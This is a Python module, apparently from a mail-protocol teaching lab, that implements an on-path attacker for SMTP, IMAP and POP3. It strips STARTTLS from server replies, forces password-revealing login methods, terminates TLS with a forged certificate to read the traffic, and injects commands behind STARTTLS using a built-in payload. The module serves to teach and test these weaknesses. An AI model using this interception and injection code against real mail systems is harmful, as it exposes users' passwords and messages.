"""The attacker on the wire: what somebody can do who sits between a client and a server, and changes what passes.

    lab.attacker.strip_offer("STARTTLS")                    what a server offers is taken out of its reply (also STLS)
    lab.attacker.strip_auth()                         of the ways to log in only those are left that show the password
    lab.attacker.swap_certificate("wrong name")       TLS ends at him: he reads all, and begins another to the server
    lab.attacker.inject()                             commands of his behind STARTTLS, in the same breath
    lab.attacker.strip_offer("STARTTLS", host="mx.beta.example:25")
    lab.attacker                                      lists what is on
    lab.attacker.stop()

All of it is an input of the lab, so back() and fork() do it again; calls that begin from now on meet it.  It works in
memory and on real sockets (but not in front of aiosmtpd, gamma.example's MX there).  What he does is told in the trace
by steps of the actor "attacker".  He changes lines; a reply is changed when it is whole.  Against TLS that is verified
he can do nothing but cut it.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from typing import TYPE_CHECKING, NamedTuple

from ..acts import Act, Hear, LabError, Rule, Say, TlsFailed
from ..net.drive import Road, World
from ..wire import CRLF

if TYPE_CHECKING:
    from ..net.tls import Layer
    from .history import History

ATTACKER = "attacker"
HIS_CERTIFICATES = ("wrong name", "expired", "self-signed", "unknown CA")
SHOWS_PASSWORD = ("PLAIN", "LOGIN")
HANDSHAKE = b"\x16\x03"  # how TLS begins (RFC 8446 §5.1)
WORD = re.compile(r"[A-Z0-9-]{1,20}")
START = {25: b"STARTTLS", 587: b"STARTTLS", 465: b"STARTTLS", 2525: b"STARTTLS", 110: b"STLS", 143: b"STARTTLS"}

# What is said behind STARTTLS: the client's own log-in and letter become the body of a letter to mallory.
CLASSIC = CRLF.join(
    [
        b"EHLO mallory.gamma.example",
        b"AUTH PLAIN AGdhbW1hLmV4YW1wbGUAbGFiLWdhbW1hLmV4YW1wbGU=",  # gamma.example, lab-gamma.example
        b"MAIL FROM:<mallory@gamma.example>",
        b"RCPT TO:<mallory@gamma.example>",
        b"DATA",
        b"",
    ]
)


class Attack(NamedTuple):
    """One thing that he does, and where."""

    kind: str  # "strip", "auth", "swap", "inject"
    words: tuple[str, ...] = ()  # what is taken out; of the ways to log in, those that are left
    certificate: str = ""
    data: bytes = b""
    host: str = ""  # "mx.beta.example", or "mx.beta.example:25"; "": everywhere

    def fits(self, host: str, port: int) -> bool:
        return self.host in ("", host, f"{host}:{port}")

    def __str__(self) -> str:
        where = f" of {self.host}" if self.host else ""
        what = {
            "strip": f"takes {', '.join(self.words)} out of the replies{where}",
            "auth": f"leaves only {', '.join(self.words)} of the ways to log in{where}",
            "swap": f"shows a certificate of his own ({self.certificate}) instead of that{where or ' of the server'}",
            "inject": f"says {len(self.data)} octets of his own behind STARTTLS{where and ' to ' + self.host}",
        }
        return what[self.kind]


class OnTheWire:
    """He, in one call."""

    def __init__(self, world: World, road: Road, attacks: Sequence[Attack]) -> None:
        self.world, self.road, self.attacks = world, road, attacks
        self.held = {"client": b"", "server": b""}  # the beginning of a line, or of a reply, that is not whole yet
        self.blind = False  # TLS that he has no part in: he hands on what he cannot read
        self.between: Terminated | None = None
        self.verb = b""  # the client's last command
        self.capa = False  # POP3: the list of capabilities is on its way

    # -- what passes

    def passes(self, sender: str, data: bytes) -> None:
        if self.between:
            return self.between.passes(sender, data)
        if sender == "client" and not self.blind and not self.held["client"] and data.startswith(HANDSHAKE[:1]):
            self.begin_tls()
            return self.passes(sender, data)
        if self.blind:
            return self.send(sender, data)
        self.held[sender] += data
        for piece in self.whole(sender):
            self.consider(sender, piece)

    def ends(self, sender: str) -> None:
        """What he held back goes on; who hung up has said all."""
        if self.between:
            return self.between.ends(sender)
        rest, self.held[sender] = self.held[sender], b""
        if rest:
            self.send(sender, rest)

    def send(self, sender: str, data: bytes) -> None:
        (self.road.to_server if sender == "client" else self.road.to_client)(data)

    def begin_tls(self) -> None:
        swap = next((attack for attack in self.attacks if attack.kind == "swap"), None)
        if swap is None or not self.world.contexts:
            self.blind = True
        else:
            self.between = Terminated(self, swap.certificate)
            self.between.feed("server", b"")  # his own ClientHello

    # -- lines

    def whole(self, sender: str) -> Iterator[bytes]:
        """The lines that are whole; of SMTP's server whole replies, because the last line of one looks otherwise."""
        while True:
            held = self.held[sender]
            end = held.find(CRLF) + 2
            if sender == "server" and self.road.port in (25, 465, 587, 2525):
                while end > 1 and held[held.rfind(b"\n", 0, end - 2) + 1 :][3:4] == b"-":
                    end = held.find(CRLF, end) + 2
            if end < 2:
                return
            self.held[sender] = held[end:]
            yield held[:end]

    def consider(self, sender: str, piece: bytes) -> None:
        """One line or reply: as it is, or otherwise."""
        if sender == "client":
            words = piece.split()
            at = 1 if self.road.port == 143 else 0
            self.verb = words[at].upper() if len(words) > at else b""
            if self.verb == START.get(self.road.port):
                for attack in self.attacks:
                    if attack.kind == "inject":
                        return self.say("client", piece, piece + attack.data, Rule(
                            "lab.attack-inject", "injected",
                            {"from": "client", "octets": str(len(attack.data)), "verb": self.verb.decode()},
                        ))  # fmt: skip
            return self.send(sender, piece)
        changed, rules = piece, list[Rule]()
        for attack in self.attacks:
            before, named = changed, ", ".join(attack.words)
            if attack.kind == "strip":
                changed = self.without(changed, attack.words)
                if changed != before:
                    rules.append(Rule("lab.attack-strip", "stripped", {"from": "server", "words": named}))
            elif attack.kind == "auth":
                changed = self.with_ways(changed, attack.words)
                if changed != before:
                    rules.append(Rule("lab.attack-auth", "stripped", {"from": "server", "ways": named}))
        if not rules:
            return self.send(sender, piece)
        self.say("server", piece, changed, *rules)

    def say(self, sender: str, heard: bytes, said: bytes, *rules: Rule) -> None:
        """Something else than he heard goes on, and the trace tells it."""
        self.tell(rules[-1], [Hear(heard), *([Say(said)] if said else [])], rules[:-1])
        if said:
            self.send(sender, said)

    def tell(self, rule: Rule, under: Sequence[Act], before: Sequence[Rule] = ()) -> None:
        trace, road = self.world.trace, self.road
        for one in before:
            trace.record(ATTACKER, road.conversation, road.accept, one)
        number = trace.record(ATTACKER, road.conversation, road.accept, rule).number
        for act in under:
            trace.record(ATTACKER, road.conversation, number, act)

    # -- what he changes in it

    def without(self, piece: bytes, words: Sequence[str]) -> bytes:
        """A list of what the server can do, and these not in it.  What is left is a list that looks right."""
        wanted = {word.encode() for word in words} | ({b"STLS"} if "STARTTLS" in words else set())
        match self.road.port:
            case 143 | 993:
                return self.each_capability(piece, lambda word: None if word.upper() in wanted else word)
            case 110 | 995:
                return (
                    b"" if self.in_capa(piece) and piece.split()[:1] and piece.split()[0].upper() in wanted else piece
                )
        return self.each_keyword(piece, lambda words: None if words[0].upper() in wanted else words)

    def with_ways(self, piece: bytes, ways: Sequence[str]) -> bytes:
        """The same list, and of the ways to log in only these."""
        kept = {way.encode() for way in ways}
        if self.road.port in (143, 993):

            def judge(word: bytes) -> bytes | None:
                return None if word.upper().startswith(b"AUTH=") and word.upper()[5:] not in kept else word

            return self.each_capability(piece, judge)

        def chosen(words: list[bytes]) -> list[bytes] | None:
            if words[0].upper() not in (b"AUTH", b"SASL"):
                return words
            left = [way for way in words[1:] if way.upper() in kept]
            return [words[0], *left] if left else None

        if self.road.port in (110, 995):
            words = piece.split()
            found = chosen(words) if self.in_capa(piece) and words else words
            return b"" if found is None else piece if found == words else b" ".join(found) + CRLF
        return self.each_keyword(piece, chosen)

    def each_keyword(self, reply: bytes, judge: Callable[[list[bytes]], list[bytes] | None]) -> bytes:
        """SMTP: a line of the reply to EHLO is a keyword (RFC 5321 §4.1.1.1), the last has no hyphen."""
        lines = reply.split(CRLF)[:-1]
        if self.verb != b"EHLO" or not reply.startswith(b"250"):
            return reply
        kept = lines[:1]
        for line in lines[1:]:
            words = line[4:].split()
            found = judge(list(words)) if words else words
            if found is not None:
                kept.append(line if found == words else line[:4] + b" ".join(found))
        return CRLF.join([b"250-" + line[4:] for line in kept[:-1]] + [b"250 " + kept[-1][4:], b""])

    def each_capability(self, line: bytes, judge: Callable[[bytes], bytes | None]) -> bytes:
        """IMAP: the words of an untagged CAPABILITY, or of a code in brackets (RFC 9051 §7.2.2, §7.1)."""
        found = re.search(rb"(?i)^(\* |[^\r\n]*\[)CAPABILITY ([^\]\r\n]*)", line)
        if not found:
            return line
        kept = [word for word in found[2].split(b" ") if judge(word) is not None]
        return line[: found.start(2)] + b" ".join(kept) + line[found.end(2) :]

    def in_capa(self, line: bytes) -> bool:
        """POP3: whether this line is one of the answer to CAPA (RFC 2449 §5)."""
        if self.verb == b"CAPA" and line.startswith(b"+OK"):
            self.capa, self.verb = True, b""
            return False
        if line == b"." + CRLF:
            self.capa = False
        return self.capa


class Terminated:
    """TLS that ends at him: one to the client, with a certificate of his own, and one to the server."""

    def __init__(self, him: OnTheWire, certificate: str) -> None:
        from ..net.tls import Layer, client_context, server_context  # here, because Pyodide has no ssl

        self.him, road = him, him.road
        self.layers: dict[str, Layer] = {
            "client": Layer(server_context(road.host, certificate=certificate), "server", "", None),
            "server": Layer(client_context("any"), "client", road.host, None),
        }
        self.waiting = {"client": b"", "server": b""}  # said by that side, and the other's handshake is not done
        self.records = {"client": b"", "server": b""}  # the beginning of a record
        him.tell(
            Rule("lab.attack-swap", "swapped", {"from": "client", "certificate": certificate, "host": road.host}), []
        )

    def passes(self, sender: str, data: bytes) -> None:
        """Record by record, so that what he reads comes in the same pieces however the network cuts it."""
        data = self.records[sender] + data
        while len(data) >= 5 and len(data) >= (end := 5 + int.from_bytes(data[3:5])):
            self.feed(sender, data[:end])
            data = data[end:]
        self.records[sender] = data

    def feed(self, sender: str, data: bytes) -> None:
        layer = self.layers[sender]
        try:
            plain = layer.feed(data)
        except TlsFailed as why:
            plain = b""
            self.him.tell(Rule("lab.attack-noticed", str(why), {"from": sender, "why": str(why)}), [])
        self.flush(sender)
        self.waiting[sender] += plain
        for side in ("client", "server"):
            self.hand_on(side)
        if layer.ended or layer.broken:
            self.ends(sender)

    def flush(self, side: str) -> None:
        """What one of his two ends has to say to that side."""
        if data := self.layers[side].take():
            (self.him.road.to_client if side == "client" else self.him.road.to_server)(data)

    def hand_on(self, sender: str) -> None:
        other = "server" if sender == "client" else "client"
        if not self.waiting[sender] or not self.layers[other].up:
            return
        plain, self.waiting[sender] = self.waiting[sender], b""
        self.him.tell(Rule("lab.attack-read", "read", {"from": sender, "octets": str(len(plain))}), [Hear(plain)])
        self.layers[other].write(plain)
        self.flush(other)

    def ends(self, sender: str) -> None:
        other = "server" if sender == "client" else "client"
        if self.layers[other].close():
            self.flush(other)


class Attacker:
    """`lab.attacker`: what he does, and where; `host` is a host, or "host:port", or everywhere."""

    def __init__(self, history: History) -> None:
        self.history = history

    def strip_offer(self, *words: str, host: str = "") -> None:
        """Take these out of what a server says it can do: "STARTTLS" (and with it POP3's STLS), "AUTH", "SIZE" …"""
        chosen = tuple(word.upper() for word in words)
        if not chosen or not all(map(WORD.fullmatch, chosen)):
            raise LabError('Name what is taken out of the replies, as in lab.attacker.strip_offer("STARTTLS").')
        self._add(Attack("strip", words=chosen, host=host))

    def strip_auth(self, *left: str, host: str = "") -> None:
        """Of the ways to log in leave only these: PLAIN and LOGIN, if none are named."""
        self._add(Attack("auth", words=tuple(way.upper() for way in left) or SHOWS_PASSWORD, host=host))

    def swap_certificate(self, certificate: str = "wrong name", *, host: str = "") -> None:
        """End the client's TLS himself, with a certificate of his own: HIS_CERTIFICATES has the choice."""
        if certificate not in HIS_CERTIFICATES:
            raise LabError(f"His certificate is one of {', '.join(map(repr, HIS_CERTIFICATES))}, not {certificate!r}.")
        self._add(Attack("swap", certificate=certificate, host=host))

    def inject(self, data: bytes = CLASSIC, *, host: str = "") -> None:
        """Say this behind the client's STARTTLS or STLS, in the same breath and in the clear."""
        if not isinstance(data, bytes) or not data.endswith(CRLF):
            raise LabError(r"What is injected is bytes that end with \r\n, as in b'NOOP\r\n'.")
        self._add(Attack("inject", data=data, host=host))

    def stop(self) -> None:
        """He goes home; calls that are under way keep him."""
        self.history.do("attack_ends")

    def _add(self, attack: Attack) -> None:
        if attack.host:
            self.history.stage.check_place(attack.host)
        self.history.do("attack", **attack._asdict())

    def __iter__(self) -> Iterator[str]:
        return map(str, self.history.attacks)

    def __len__(self) -> int:
        return len(self.history.attacks)

    def __bool__(self) -> bool:
        return len(self) > 0

    def __repr__(self) -> str:
        return "\n".join(self) or "nobody is on the wire"
